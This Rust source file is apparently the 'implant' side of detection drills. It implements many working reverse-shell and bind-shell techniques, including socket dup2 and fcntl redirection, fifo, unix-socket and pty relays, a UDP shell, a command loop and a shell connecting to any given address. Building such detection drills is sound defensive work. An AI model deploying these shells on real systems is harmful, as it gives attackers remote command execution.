//! The implant's side of each drill: runs in a process of its own and ends with it. Every way is
//! one that real tools use.

use std::io::{self, Read, Write};
use std::net::{Ipv4Addr, SocketAddrV4, TcpListener, TcpStream, UdpSocket};
use std::os::fd::{AsRawFd as _, FromRawFd as _, OwnedFd};
use std::os::unix::net::{UnixListener, UnixStream};
use std::os::unix::process::CommandExt as _;
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::thread;

/// The shell that drills use.
const SHELL: &str = "/bin/sh";
/// What names [`called_shell`] when this program is started as one.
pub const CALLED_SHELL: &str = "called-shell";
/// What names the relay when this program is started as one: see [`relay`].
pub const RELAY: &str = "relay";
/// The same, but it waits for a line before it connects.
pub const LATE_RELAY: &str = "late-relay";

fn call(port: u16) -> io::Result<TcpStream> {
    TcpStream::connect((Ipv4Addr::LOCALHOST, port))
}

/// Becomes a shell whose streams are all this.
fn become_shell(program: &Path, streams: impl Into<OwnedFd>) -> io::Result<()> {
    let streams = streams.into();
    Err(Command::new(program)
        .stdin(streams.try_clone()?)
        .stdout(streams.try_clone()?)
        .stderr(streams)
        .exec())
}

/// A shell on a connection to anybody, for drills of what is done about one.
pub fn called_shell(master: SocketAddrV4) -> io::Result<()> {
    become_shell(Path::new(SHELL), TcpStream::connect(master)?)
}

/// dup2 onto 0, 1 and 2.
pub fn duplicated_socket(port: u16) -> io::Result<()> {
    become_shell(Path::new(SHELL), call(port)?)
}

/// Closes standard input, so that the next socket becomes it.
pub fn socket_at_zero(port: u16) -> io::Result<()> {
    // SAFETY: nothing in this process uses standard input.
    unsafe { libc::close(0) };
    let socket = call(port)?;
    if socket.as_raw_fd() != 0 {
        return Err(io::Error::other("another thread opened something"));
    }
    // SAFETY: plain descriptors of this process; the socket must stay open across the exec.
    unsafe {
        libc::fcntl(0, libc::F_SETFD, 0);
        libc::dup2(0, 1);
        libc::dup2(0, 2);
    }
    std::mem::forget(socket);
    Err(Command::new(SHELL).exec())
}

/// fcntl(F_DUPFD) instead of dup2.
pub fn fcntl(port: u16) -> io::Result<()> {
    let socket = call(port)?;
    for fd in 0..3 {
        // SAFETY: plain descriptors of this process; the first free one at or above `fd` is
        // `fd`, which was just closed.
        unsafe {
            libc::close(fd);
            if libc::fcntl(socket.as_raw_fd(), libc::F_DUPFD, fd) != fd {
                return Err(io::Error::last_os_error());
            }
        }
    }
    Err(Command::new(SHELL).exec())
}

/// A copy of the shell, removed as soon as it runs.
pub fn renamed_shell(port: u16) -> io::Result<()> {
    let copy = std::env::temp_dir().join(format!("drill-{}", std::process::id()));
    std::fs::copy(SHELL, &copy)?;
    let socket = OwnedFd::from(call(port)?);
    let child = Command::new(&copy)
        .stdin(socket.try_clone()?)
        .stdout(socket.try_clone()?)
        .stderr(socket)
        .spawn();
    let outcome = child.and_then(|mut child| child.wait());
    std::fs::remove_file(&copy)?;
    outcome.map(drop)
}

/// Starts a shell with pipes and hands bytes on.
pub fn pipe_relay(port: u16) -> io::Result<()> {
    let socket = call(port)?;
    let mut shell = piped(&mut Command::new(SHELL))?;
    let (input, output) = (shell.stdin.take(), shell.stdout.take());
    let (Some(input), Some(output)) = (input, output) else {
        return Err(io::Error::other("no pipes"));
    };
    pump_both(socket.try_clone()?, socket, output, input);
    shell.wait().map(drop)
}

fn piped(command: &mut Command) -> io::Result<Child> {
    command.stdin(Stdio::piped()).stdout(Stdio::piped()).spawn()
}

/// A shell and a relay, each with the other's pipes.
pub fn separate_relay(port: u16) -> io::Result<()> {
    joined(port, RELAY, |_| Ok(()))
}

/// The same, but the relay connects when it is told to.
pub fn late_connection(port: u16) -> io::Result<()> {
    joined(port, LATE_RELAY, |shell| {
        // The shell is there and waits; its first words make the relay connect.
        shell.write_all(b"echo\n")
    })
}

fn joined(
    port: u16,
    relay: &str,
    first: impl FnOnce(&mut io::PipeWriter) -> io::Result<()>,
) -> io::Result<()> {
    let (from_master, mut to_shell) = io::pipe()?;
    let (from_shell, to_master) = io::pipe()?;
    let mut shell = Command::new(SHELL)
        .stdin(from_master)
        .stdout(to_master.try_clone()?)
        .stderr(to_master)
        .spawn()?;
    first(&mut to_shell)?;
    let mut relay = itself(relay, port)?
        .stdin(from_shell)
        .stdout(to_shell)
        .spawn()?;
    shell.wait()?;
    relay.wait().map(drop)
}

/// This program as an implant of another name.
fn itself(name: &str, port: u16) -> io::Result<Command> {
    let mut command = Command::new(std::env::current_exe()?);
    command.args(["drill", "--act", name, "--port", &port.to_string()]);
    Ok(command)
}

/// The relay's own part: standard input to the socket, and back.
pub fn relay(port: u16) -> io::Result<()> {
    let socket = call(port)?;
    pump_both(socket.try_clone()?, socket, io::stdin(), io::stdout());
    Ok(())
}

/// Connects once it has read a line.
pub fn late_relay(port: u16) -> io::Result<()> {
    let mut line = String::new();
    io::stdin().read_line(&mut line)?;
    relay(port)
}

/// A pipe one way and a fifo the other, as with `mkfifo f; cat f | sh | nc … > f`.
pub fn fifo_relay(port: u16) -> io::Result<()> {
    let fifo = std::env::temp_dir().join(format!("drill-{}", std::process::id()));
    let name = std::ffi::CString::new(fifo.as_os_str().as_encoded_bytes())?;
    // SAFETY: a string with its NUL.
    if unsafe { libc::mkfifo(name.as_ptr(), 0o600) } != 0 {
        return Err(io::Error::last_os_error());
    }
    let outcome = over_fifo(port, &fifo);
    std::fs::remove_file(&fifo)?;
    outcome
}

fn over_fifo(port: u16, fifo: &Path) -> io::Result<()> {
    let (from_shell, to_relay) = io::pipe()?;
    // Opening a fifo for both does not wait for another.
    let end = std::fs::File::options().read(true).write(true).open(fifo)?;
    let mut shell = Command::new(SHELL)
        .stdin(std::fs::File::open(fifo)?)
        .stdout(to_relay)
        .spawn()?;
    let mut relay = itself(RELAY, port)?.stdin(from_shell).stdout(end).spawn()?;
    shell.wait()?;
    relay.wait().map(drop)
}

/// A unix socket between the shell and the process that has the connection.
pub fn unix_relay(port: u16) -> io::Result<()> {
    let path = std::env::temp_dir().join(format!("drill-{}.sock", std::process::id()));
    let listener = UnixListener::bind(&path)?;
    let ours = UnixStream::connect(&path)?;
    let (shells, _) = listener.accept()?;
    std::fs::remove_file(&path)?;
    let socket = call(port)?;
    let shells = OwnedFd::from(shells);
    let mut shell = Command::new(SHELL)
        .stdin(shells.try_clone()?)
        .stdout(shells.try_clone()?)
        .stderr(shells)
        .spawn()?;
    pump_both(socket.try_clone()?, socket, ours.try_clone()?, ours);
    shell.wait().map(drop)
}

/// A terminal between the shell and the process that has the connection.
pub fn terminal_relay(port: u16) -> io::Result<()> {
    let (master, slave) = terminal()?;
    let socket = call(port)?;
    let mut shell = Command::new(SHELL)
        .stdin(slave.try_clone()?)
        .stdout(slave.try_clone()?)
        .stderr(slave)
        .spawn()?;
    let master = std::fs::File::from(master);
    pump_both(socket.try_clone()?, socket, master.try_clone()?, master);
    shell.wait().map(drop)
}

fn terminal() -> io::Result<(OwnedFd, OwnedFd)> {
    let (mut master, mut slave) = (-1, -1);
    // SAFETY: both are written before they are read; the rest is optional.
    let done = unsafe {
        libc::openpty(
            &raw mut master,
            &raw mut slave,
            std::ptr::null_mut(),
            std::ptr::null_mut(),
            std::ptr::null_mut(),
        )
    };
    if done != 0 {
        return Err(io::Error::last_os_error());
    }
    // SAFETY: two new descriptors that nobody else has.
    Ok(unsafe { (OwnedFd::from_raw_fd(master), OwnedFd::from_raw_fd(slave)) })
}

/// Listens, and gives the connection to a shell.
pub fn bind_shell(port: u16) -> io::Result<()> {
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, port))?;
    let (socket, _) = listener.accept()?;
    become_shell(Path::new(SHELL), socket)
}

/// A shell on a UDP socket; a datagram first, so that the master knows where it is.
pub fn datagrams(port: u16) -> io::Result<()> {
    let socket = UdpSocket::bind((Ipv4Addr::LOCALHOST, 0))?;
    socket.connect((Ipv4Addr::LOCALHOST, port))?;
    socket.send(b"hello\n")?;
    become_shell(Path::new(SHELL), socket)
}

/// Reads commands and runs each in a child.
pub fn command_loop(port: u16) -> io::Result<()> {
    let mut socket = call(port)?;
    let mut buffer = [0; 512];
    loop {
        let count = socket.read(&mut buffer)?;
        let command = String::from_utf8_lossy(buffer.get(..count).unwrap_or_default());
        if count == 0 || command.trim() == "exit" {
            return Ok(());
        }
        let done = Command::new(SHELL).arg("-c").arg(&*command).output()?;
        socket.write_all(&done.stdout)?;
    }
}

/// Hands bytes on in both directions until the shell has said all it had to say.
fn pump_both(
    mut from_master: impl Read + Send + 'static,
    mut to_master: impl Write,
    mut from_shell: impl Read,
    mut to_shell: impl Write + Send + 'static,
) {
    thread::spawn(move || pump(&mut from_master, &mut to_shell));
    pump(&mut from_shell, &mut to_master);
}

fn pump(from: &mut impl Read, to: &mut impl Write) {
    let mut buffer = [0; 512];
    while let Ok(count @ 1..) = from.read(&mut buffer) {
        let sent = to
            .write_all(buffer.get(..count).unwrap_or_default())
            .and_then(|()| to.flush());
        if sent.is_err() {
            return;
        }
    }
}
